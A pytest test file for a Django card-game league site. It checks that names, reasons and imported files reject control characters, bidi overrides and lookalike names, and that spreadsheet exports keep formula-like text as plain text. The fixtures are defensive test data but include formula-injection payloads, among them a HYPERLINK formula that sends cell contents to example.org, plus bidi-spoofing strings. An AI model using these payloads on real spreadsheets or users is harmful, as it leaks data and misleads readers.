"""One boundary for free text: what the site stores passes
protocol.rules.text; what is already stored never breaks an export; a text cell is never a
formula; ``check_texts`` lists what the secretary should correct."""

import io
import json
import uuid

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from league.models import Club, Member
from league.spreadsheets.exports import match_xlsx, season_xlsx
from league.spreadsheets.imports import import_season
from protocol import matches, reading, recording
from protocol.models import Event, Match, Seat
from protocol.records.text_audit import stored_text_problems
from tests.integration.pages import new_match_post
from tests.integration.phones import hand_over
from tests.unit.builders import quiet


@pytest.fixture
def players(club, member_user, scorekeeper):
    for name in ("Carla", "Dieter"):
        Member.objects.create(club=club, name=name)
    return ["Anna", "Bernd", "Carla", "Dieter"]


def new_match(client, club, names, scorekeeper, **extra):
    return client.post(reverse("protocol:new", kwargs={"slug": club.slug}),
                       new_match_post(club, names, scorekeeper, **extra))


# -- the new Partie's guests ----------------------------------------------------------------

@pytest.mark.parametrize("guests, words", [
    ("Gast\x01X", "Steuerzeichen (U+0001)"),
    ("Gast\x1b", "Steuerzeichen (U+001B)"),
    ("\u200b\u200d", "unsichtbaren Zeichen"),
    ("Gast\u202e001", "Schreibrichtung (U+202E)"),
    ("\u2067Gast", "Schreibrichtung (U+2067)"),
    ("G" * 81, "höchstens 80 Zeichen, nicht 81"),
    ("Max, max", "kaum zu unterscheiden"),
    ("Max, Max", "zweimal"),
    ("bernd", "kaum zu unterscheiden"),  # Bernd is seated
])
def test_a_member_cannot_start_a_partie_with_a_bad_guest_name(scorekeeper_client, club, players, guests, words):
    response = new_match(scorekeeper_client, club, players, "Bernd", guests=guests)
    assert response.status_code == 200 and words in response.content.decode()
    assert not Match.objects.exists() and not Member.objects.filter(is_guest=True).exists()


def test_a_guest_named_like_a_member_not_at_the_table_is_refused(secretary_client, club, players):
    response = new_match(secretary_client, club, ["Bernd", "Carla", "Dieter"], "Bernd", guests="ANNA")
    assert response.status_code == 200 and "„Anna“" in response.content.decode()
    assert not Match.objects.exists() and club.members.count() == 5


def test_guests_with_names_like_formulas_and_decomposed_umlauts_are_kept_as_text(secretary_client, club, players):
    response = new_match(secretary_client, club, players, "Bernd", guests="=1+1, Jo\u0308rg")
    assert response.status_code == 302
    assert [s.name for s in Match.objects.get().seats.all()][4:] == ["=1+1", "Jörg"]  # NFC


# -- the secretary's member form ------------------------------------------------------------

@pytest.mark.parametrize("name, words", [("Carla\x01", "U+0001"), ("\u200d", "unsichtbaren"),
                                         ("Car\u202ela", "Schreibrichtung (U+202E)"),
                                         ("sabine", "schon ein Mitglied"), ("S\u0430bine", "schon ein Mitglied")])
def test_the_secretary_cannot_add_a_member_with_a_bad_or_lookalike_name(secretary_client, club, secretary, name, words):
    response = secretary_client.post(reverse("member_add", kwargs={"slug": club.slug}), {"name": name, "active": "on"})
    assert response.status_code == 200 and words in response.content.decode()
    assert list(club.members.values_list("name", flat=True)) == ["Sabine"]


def test_a_member_may_not_add_members_at_all(member_client, club):
    response = member_client.post(reverse("member_add", kwargs={"slug": club.slug}), {"name": "Zora", "active": "on"})
    assert response.status_code == 403 and not club.members.filter(name="Zora").exists()


def test_renaming_a_member_to_a_lookalike_of_another_is_refused(secretary_client, club, secretary, member_user):
    anna = club.members.get(name="Anna")
    url = reverse("member_edit", kwargs={"slug": club.slug, "pk": anna.pk})
    response = secretary_client.post(url, {"name": "SABINE", "active": "on", "username": "anna"})
    assert response.status_code == 200 and "schon ein Mitglied" in response.content.decode()
    response = secretary_client.post(url, {"name": "ANNA", "active": "on", "username": "anna"})
    assert response.status_code == 302  # a member may change the case of her own name
    assert club.members.get(pk=anna.pk).name == "ANNA"


# -- Strafe and Verwarnung ------------------------------------------------------------------

@pytest.mark.parametrize("reason, words", [("laut\x01", "U+0001"), ("\u200b", "unsichtbaren"),
                                           ("x" * 501, "höchstens 500"), ("laut \u202eA1", "Schreibrichtung (U+202E)")])
def test_the_scorekeeper_cannot_record_a_strafe_with_a_bad_reason(scorekeeper_client, running_match, reason, words):
    url = reverse("protocol:sanction_new", kwargs={"slug": running_match.club.slug, "pk": running_match.pk})
    response = scorekeeper_client.post(url, {"kind": "warning", "player": "Anna", "reason": reason,
                                             "version": running_match.version, "submission": uuid.uuid4()})
    assert response.status_code == 200 and words in response.content.decode()
    assert not running_match.events.exists()


def test_a_reason_over_several_lines_is_recorded(scorekeeper_client, running_match):
    url = reverse("protocol:sanction_new", kwargs={"slug": running_match.club.slug, "pk": running_match.pk})
    response = scorekeeper_client.post(url, {"kind": "warning", "player": "Anna", "reason": "laut\r\nund frech",
                                             "version": running_match.version, "submission": uuid.uuid4()})
    assert response.status_code == 302 and running_match.events.get().data["reason"] == "laut\r\nund frech"


# -- the offline queue's JSON endpoint ---------------------------------------------------------

@pytest.mark.parametrize("body", [
    {"player": "Anna", "reason": "laut \u202e001"},
    {"player": "Anna", "reason": "\u2066laut"},
])
def test_a_phone_cannot_send_a_reason_with_a_bidi_control(scorekeeper_client, running_match, body):
    answer = hand_over(scorekeeper_client, running_match, kind="warning", body=body)
    assert answer.status_code == 422
    (error,) = answer.json()["errors"]
    assert error["field"] == "reason" and "Schreibrichtung" in error["message"]
    assert not running_match.events.exists()


@pytest.mark.parametrize("reason, words", [("Augen \u202evertauscht", "Schreibrichtung (U+202E)"),
                                           ("Augen\x07", "Steuerzeichen (U+0007)")])
def test_a_phone_cannot_send_a_correction_whose_reason_has_a_bidi_or_control_character(
        scorekeeper_client, running_match, reason, words):
    recording.add_event(running_match, "game", quiet()["game"], version=running_match.version)
    answer = hand_over(scorekeeper_client, running_match, kind="correction", position=0, reason=reason,
                  body={"game": dict(quiet()["game"], annulled=True, annul_reason="Karten fehlten")})
    assert answer.status_code == 422 and words in answer.json()["errors"][0]["message"]
    assert not running_match.changes.filter(action="correct").exists()
    assert running_match.events.get().data == quiet()["game"]


# -- protocol files -------------------------------------------------------------------------

def protocol_file(players, events=None):
    doc = {"format": "protocol/1", "ruleset": "chaotentrumpf", "date": "2026-11-20", "players": players,
           "scorekeeper": players[0], "settings": {}, "events": events or [quiet(players)]}
    return json.dumps(doc).encode()  # ensure_ascii: NUL and surrogates as \u escapes, as a file has them


@pytest.mark.parametrize("players, events, words", [
    (["Anna", "Bernd", "Carla", "Gast\x00"], None, "Nullzeichen"),
    (["Anna", "Bernd", "Carla", "Gast\x01X"], None, "Steuerzeichen"),
    (["Anna", "Bernd", "Carla", "Gast\ud800"], None, "Surrogat"),
    (["Anna", "Bernd", "Carla", "anna"], None, "kaum zu unterscheiden"),
    (["Anna", "Bernd", "Carla", "Dieter"], [{"warning": {"player": "Anna", "reason": "zu\x00spät"}}], "Nullzeichen"),
    (["Anna", "Bernd", "Carla", "Gast\u202e"], None, "Schreibrichtung (U+202E)"),
    (["Anna", "Bernd", "Carla", "Dieter"], [{"warning": {"player": "Anna", "reason": "zu \u2068spät"}}],
     "Schreibrichtung (U+2068)"),
])
def test_a_json_import_with_nul_control_characters_or_surrogates_is_refused(secretary_client, club, players, events,
                                                                            words):
    raw = protocol_file(players, events)
    response = secretary_client.post(reverse("protocol:import", kwargs={"slug": club.slug}),
                                     {"file": SimpleUploadedFile("p.json", raw)})
    assert response.status_code == 200 and words in response.content.decode()
    assert not Match.objects.exists() and list(club.members.values_list("name", flat=True)) == ["Sabine"]


def test_an_import_naming_a_lookalike_of_a_member_is_refused(secretary_client, club, secretary):
    raw = protocol_file(["SABINE", "Bernd", "Carla", "Dieter"])
    response = secretary_client.post(reverse("protocol:import", kwargs={"slug": club.slug}),
                                     {"file": SimpleUploadedFile("p.json", raw)})
    assert response.status_code == 200 and "„Sabine“" in response.content.decode()
    assert not Match.objects.exists() and club.members.count() == 1


def test_a_file_in_nfd_names_the_same_member_as_the_site(secretary_client, club):
    Member.objects.create(club=club, name="Jörg")
    raw = protocol_file(["Jo\u0308rg", "Bernd", "Carla", "Dieter"])
    response = secretary_client.post(reverse("protocol:import", kwargs={"slug": club.slug}),
                                     {"file": SimpleUploadedFile("p.json", raw)})
    assert response.status_code == 302
    assert Match.objects.get().seats.get(position=0).member.name == "Jörg"
    assert club.members.filter(name__startswith="J").count() == 1


# -- what is already stored: exports and check_texts ------------------------------------------

def stored_with(data, name, bad):
    """The JSON value with ``name`` spelt ``bad`` everywhere (keys too), as old data has it."""
    return json.loads(json.dumps(data).replace(json.dumps(name)[1:-1], json.dumps(bad)[1:-1]))


@pytest.fixture
def old_bad_data(running_match, secretary):
    """Texts stored before the boundary existed, written past it as old data would be: a guest
    "Die\x01ter" (his seat and every entry naming him), a reason with control characters, a
    place with a vertical tab."""
    recording.add_event(running_match, "game", quiet()["game"], user=secretary)
    recording.add_event(running_match, "warning", {"player": "Anna", "reason": "laut"}, user=secretary)
    Member.objects.filter(name="Dieter").update(name="Die\x01ter")
    Seat.objects.filter(name="Dieter").update(name="Die\x01ter")
    for event in running_match.events.all():
        data = stored_with(event.data, "Dieter", "Die\x01ter")
        if event.kind == "warning":
            data["reason"] = "laut\x02\x1f"
        Event.objects.filter(pk=event.pk).update(data=data)
    Match.objects.filter(pk=running_match.pk).update(place="Nür\x0btingen")
    Club.objects.filter(pk=running_match.club_id).update(place="\x07")
    return running_match


def workbook_texts(response):
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content))
    return [c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.django_db(transaction=True)
def test_an_export_never_fails_whatever_is_stored(secretary_client, old_bad_data, run_worker):
    match, club = old_bad_data, old_bad_data.club
    secretary_client.post(reverse("export_club", kwargs={"slug": club.slug}))  # a background job
    run_worker()
    job = club.jobs.get()
    for url in (reverse("job_download", kwargs={"slug": club.slug, "pk": job.pk}),
                reverse("export_match", kwargs={"slug": club.slug, "pk": match.pk})):
        response = secretary_client.get(url)
        assert response.status_code == 200, url
        texts = workbook_texts(response)
        assert "Nürtingen" in texts and not any("\x01" in t or "\x02" in t or "\x0b" in t for t in texts)


def test_check_texts_lists_each_bad_stored_text_with_where_to_fix_it(old_bad_data, capsys):
    findings = {(f.model, f.field) for f in stored_text_problems()}
    assert findings == {("Club", "place"), ("Member", "name"), ("Match", "place"), ("Seat", "name"),
                        ("Event", "data.reason")}
    by_field = {(f.model, f.field): f for f in stored_text_problems()}
    club = old_bad_data.club
    assert f"/verein/{club.slug}/mitglieder/" in by_field[("Member", "name")].fix
    assert "korrigieren" in by_field[("Event", "data.reason")].fix
    assert "U+0002" in by_field[("Event", "data.reason")].problem
    assert "exportieren" in by_field[("Seat", "name")].fix
    with pytest.raises(SystemExit) as exit:
        call_command("check_texts")
    assert exit.value.code == 1
    out = capsys.readouterr().out
    assert "Member" in out and "Seat" in out and club.name in out


def test_the_repair_makes_old_partien_readable_again_and_notes_it_in_their_history(secretary_client, old_bad_data,
                                                                                    capsys):
    anna = old_bad_data.club.members.get(name="Anna")
    her_page = reverse("member_page", kwargs={"slug": old_bad_data.club.slug, "member_pk": anna.pk}) + "?saison=alle"
    assert "Die\x01ter" in secretary_client.get(her_page).text  # her Partien, kept for their stamp
    version = old_bad_data.version
    call_command("check_texts", "--repair")  # exit 0: nothing left to list
    out = capsys.readouterr().out
    assert "Repariert: Match" in out and "in Ordnung" in out
    match = Match.objects.get(pk=old_bad_data.pk)
    assert [s.name for s in match.seats.all()] == ["Anna", "Bernd", "Carla", "Dieter"]
    assert match.place == "Nürtingen" and match.events.get(kind="warning").data["reason"] == "laut"
    assert match.changes.filter(reason__startswith="Unzulässige Zeichen").count() == 1
    assert reading.page(match).evaluation.ok
    assert secretary_client.get(match.get_absolute_url()).status_code == 200
    # A new version of the Partie: her page (and the engine's state) is read anew, not kept.
    assert match.version == version + 1
    assert "Die\x01ter" not in secretary_client.get(her_page).text and "Bernd, Carla, Dieter" in secretary_client.get(her_page).text


def test_check_texts_is_quiet_when_everything_is_fine(running_match, capsys):
    call_command("check_texts")  # no SystemExit: exit 0
    assert "in Ordnung" in capsys.readouterr().out


def test_check_texts_lists_members_who_look_alike(club, capsys):
    Member.objects.create(club=club, name="Bernd")
    Member.objects.create(club=club, name="bernd")
    found = [f for f in stored_text_problems()]
    assert [(f.model, f.problem) for f in found] == [
        ("Member", "„bernd“ ist von „Bernd“ kaum zu unterscheiden (nur Groß-/Kleinschreibung oder ähnlich "
                   "aussehende Buchstaben); bitte die Namen klar unterscheiden, z. B. mit einer Initiale.")]


def test_check_texts_lists_clubs_that_look_alike(club):
    twin = Club.objects.create(name="1. ctv GEGEN alles!", slug="twin")  # saved before the settings refused it
    assert [(f.model, f.pk, f.field, "kaum zu unterscheiden" in f.problem) for f in stored_text_problems()] == [
        ("Club", twin.pk, "name", True)]


# -- formula injection ------------------------------------------------------------------------

FORMULAS = ["=1+1", "+49", "-x", "@home"]
HYPERLINK = '=HYPERLINK("http://example.org/?"&A2&B2,"Details")'


@pytest.fixture
def formula_match(club, secretary):
    members = [Member.objects.create(club=club, name=name) for name in FORMULAS]
    events = [quiet(FORMULAS), {"warning": {"player": "=1+1", "reason": HYPERLINK}},
              {"penalty": {"player": "+49", "points": 100, "reason": "#N/A", "decided_by": ["-x", "@home"]}}]
    return matches.create_match(club=club, date=__import__("datetime").date(2026, 11, 20), place="=SUM(A1:A9)",
                                members=members, scorekeeper=members[0], settings={}, events=events, user=secretary)


def test_no_text_becomes_a_formula_in_an_export(formula_match):
    for data in (season_xlsx(formula_match.club, None), match_xlsx(formula_match)):
        book = load_workbook(io.BytesIO(data))
        cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []  # the site writes no formula itself
        texts = {c.value for c in cells if c.data_type == "s"}
        assert {*FORMULAS, HYPERLINK, "=SUM(A1:A9)", "#N/A"} <= texts


def test_the_season_round_trip_keeps_names_like_formulas_exactly(formula_match):
    empty = Club.objects.create(name="Skatfreunde Wendlingen", slug="wendlingen")
    report = import_season(season_xlsx(formula_match.club, None), club=empty)
    assert report.ok and report.saved, [str(p) for p in report.problems]
    match = Match.objects.get(club=empty)
    assert [s.name for s in match.seats.all()] == FORMULAS
    assert match.place == "=SUM(A1:A9)"
    assert [e.data.get("reason") for e in match.events.exclude(kind="game")] == [HYPERLINK, "#N/A"]


# -- Protokoll nachtragen -------------------------------------------------------------------

@pytest.mark.parametrize("players, words", [("Anna, Bernd, Carla, Gast\x01X", "Steuerzeichen (U+0001)"),
                                            ("Anna, Bernd, Carla, Max, M\u0430x", "kaum zu unterscheiden")])
def test_the_transcription_refuses_bad_player_names_in_its_header(secretary_client, club, players, words):
    from tests.integration.transcription import check, sheet
    answer = check(secretary_client, club, sheet(players=players))
    assert any(words in message for message in answer["header"]["errors"]["players"])
    assert not answer["ready"]


@pytest.mark.parametrize("char", ["\x07", "\u202e"])
def test_the_transcription_refuses_a_reason_with_a_control_character(secretary_client, club, char):
    from tests.integration.transcription import check, row, sheet
    answer = check(secretary_client, club, sheet(row("P", [(3, 56, 2), (4, 40, 1), (3, 30, 0), (0, 0, 0)]),
                                                 row(f"V Dieter falsch{char} bedient")))
    (error,) = answer["rows"][1]["errors"]
    assert f"U+{ord(char):04X}" in error["message"] and not answer["ready"]


def test_the_migration_repairs_old_data_with_its_historical_models(old_bad_data):
    import importlib

    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor
    state = MigrationExecutor(connection).loader.project_state(("protocol", "0005_repair_stored_texts"))
    importlib.import_module("protocol.migrations.0005_repair_stored_texts").repair(state.apps, None)
    assert [s.name for s in Match.objects.get(pk=old_bad_data.pk).seats.all()] == ["Anna", "Bernd", "Carla", "Dieter"]
    assert list(stored_text_problems()) == []


def test_stored_bidi_controls_are_listed_and_the_repair_removes_them(running_match, secretary, capsys):
    """A guest and a reason saved while bidi controls were still accepted: the engine refuses
    them now, so check_texts lists them and the repair (migration 0011) takes them out."""
    recording.add_event(running_match, "warning", {"player": "Anna", "reason": "laut"}, user=secretary)
    event = running_match.events.get()
    Event.objects.filter(pk=event.pk).update(data={"player": "Anna", "reason": "laut \u202e001"})
    Member.objects.filter(name="Dieter").update(name="Die\u2066ter")
    findings = {(f.model, f.field): f.problem for f in stored_text_problems()}
    assert "Schreibrichtung (U+202E)" in findings[("Event", "data.reason")]
    assert "Schreibrichtung (U+2066)" in findings[("Member", "name")]
    call_command("check_texts", "--repair")
    assert "in Ordnung" in capsys.readouterr().out
    assert running_match.events.get().data["reason"] == "laut 001"
    assert running_match.club.members.filter(name="Dieter").exists()
    assert reading.page(Match.objects.get(pk=running_match.pk)).evaluation.ok
